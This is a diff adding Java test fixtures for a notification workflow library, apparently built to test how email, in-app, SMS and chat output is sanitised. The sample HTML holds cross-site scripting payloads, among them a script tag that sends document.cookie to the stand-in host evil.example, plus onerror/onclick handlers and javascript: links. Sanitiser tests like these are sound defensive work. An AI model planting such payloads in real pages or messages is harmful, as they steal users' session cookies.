@@ -38,6 +38,28 @@ final class TestWorkflows {
 	record Score(String label, int points) {
 	}
 
+	record Named(String name) {
+	}
+
+	record MessageControls(String subject, String body) {
+	}
+
+	record BodyControls(String body) {
+	}
+
+	/** The realistic HTML email of {@code record-vectors.cjs}: a table layout, a style block, an image, links, and a script. */
+	static final String EMAIL_HTML = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Your order</title>"
+			+ "<style>.btn{background:#0a66c2;color:#fff}</style></head>"
+			+ "<body style=\"margin:0;background:#f4f4f4\">"
+			+ "<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" style=\"background:#ffffff\">"
+			+ "<tr><td align=\"center\" style=\"padding:24px;font-family:Arial,sans-serif\">"
+			+ "<img src=\"https://cdn.example.com/logo.png\" alt=\"Acme\" width=\"120\" height=\"40\" onerror=\"steal()\" style=\"display:block\">"
+			+ "<h1 style=\"font-size:20px\">Hello {{payload.name}}</h1>"
+			+ "<p>Tom &amp; Jerry shipped your order.<script>document.location=\"https://evil.example/?c=\"+document.cookie</script></p>"
+			+ "<a href=\"https://shop.example.com/orders/1\" class=\"btn\" target=\"_blank\" onclick=\"track()\">View order</a> "
+			+ "<a href=\"javascript:alert(1)\">Unsubscribe</a>"
+			+ "</td></tr></table></body></html>";
+
 	private TestWorkflows() {
 	}
 
@@ -75,6 +97,34 @@ final class TestWorkflows {
 			.chat("chat", text, ctx -> new Outputs.Chat(ctx.controls().text() + " has "
 					+ ctx.step("score", Score.class).points() + " points, throttled="
 					+ ctx.step("throttle", Results.Throttle.class).throttled()))
+			.build();
+	}
+
+	/** Sanitising and provider overrides: the {@code alerts} workflow of {@code record-vectors.cjs}. */
+	static Workflow<Named> alerts() {
+		return Workflow.builder("alerts", JsonType.withDefaults(new Named("Ada")))
+			.name("Alerts")
+			.email("email", JsonType.withDefaults(new MessageControls("Tom & Jerry <3 {{payload.name}}", EMAIL_HTML)),
+					ctx -> new Outputs.Email(ctx.controls().subject(), ctx.controls().body()), null,
+					StepOptions.<MessageControls, Outputs.Email>create()
+						.provider("sendgrid", (controls, email) -> Map.of("subject", "Override: " + email.subject(),
+								"_passthrough", Map.of("headers", Map.of("X-Campaign", "alerts")))))
+			.inApp("inbox", JsonType.withDefaults(new MessageControls("A & B <c>",
+					"<b onclick=\"x()\">Hi</b> <a href=\"javascript:void(0)\">go</a><script>bad()</script> & more")),
+					ctx -> new Outputs.InApp(ctx.controls().subject(), ctx.controls().body(), "https://cdn.example.com/a.png",
+							null, null))
+			.sms("sms", JsonType.withDefaults(new BodyControls("<script>alert(1)</script> Tom & Jerry <b onclick=\"x()\">")),
+					ctx -> new Outputs.Sms(ctx.controls().body()))
+			.email("raw-email", JsonType.withDefaults(new MessageControls("Raw & <unsanitised>",
+					"<p onclick=\"x()\">raw</p><script>kept()</script>")),
+					ctx -> new Outputs.Email(ctx.controls().subject(), ctx.controls().body()), null,
+					StepOptions.<MessageControls, Outputs.Email>create().disableOutputSanitization())
+			.chat("chat", JsonType.withDefaults(new BodyControls("<script>x</script> *Order* shipped")),
+					ctx -> new Outputs.Chat(ctx.controls().body()), null,
+					StepOptions.<BodyControls, Outputs.Chat>create()
+						.provider("slack", (controls, chat) -> Map.of("text", chat.body(),
+								"blocks", List.of(Map.of("type", "section", "text", Map.of("type", "mrkdwn", "text", chat.body()))),
+								"_passthrough", Map.of("body", Map.of("unfurl_links", false)))))
 			.build();
 	}
 
